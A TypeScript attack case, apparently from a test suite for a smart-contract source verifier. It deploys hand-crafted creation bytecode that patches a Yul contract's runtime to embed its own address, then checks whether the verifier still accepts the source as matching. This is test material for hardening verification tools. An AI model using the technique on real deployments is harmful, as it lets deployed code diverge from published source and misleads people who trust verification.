import type { Attack, Program } from "./attack.ts";

const program: Program = {
  language: "Yul",
  sources: {
    "Till.yul": `object "Till" {
  code { datacopy(0, dataoffset("Runtime"), datasize("Runtime")) return(0, datasize("Runtime")) }
  object "Runtime" {
    code { mstore(0, verbatim_0i_1o(hex"730000000000000000000000000000000000000000")) return(0, 32) }
  }
}`,
  },
  contract: "Till.yul:Till",
};

const attack: Attack = {
  title: "Yul begins as a library does, and pushes the contract's own address on chain",
  attack: async (world) => {
    const { runtime } = await world.compile(program);
    const length = (runtime.length / 2).toString(16).padStart(2, "0");
    // Copies the code that stands behind it, and puts ADDRESS into its first instruction.
    const patching = `60${length}60155f393060601b6001511760015260${length}5ff3`;
    const { address } = await world.deploy(`0x${patching}${runtime}`);
    return world.verify(program, { address });
  },
  honest: async (world) => {
    const { creation } = await world.compile(program);
    return world.verify(program, await world.deploy(`0x${creation}`));
  },
  reaches: "partial",
};

export default attack;
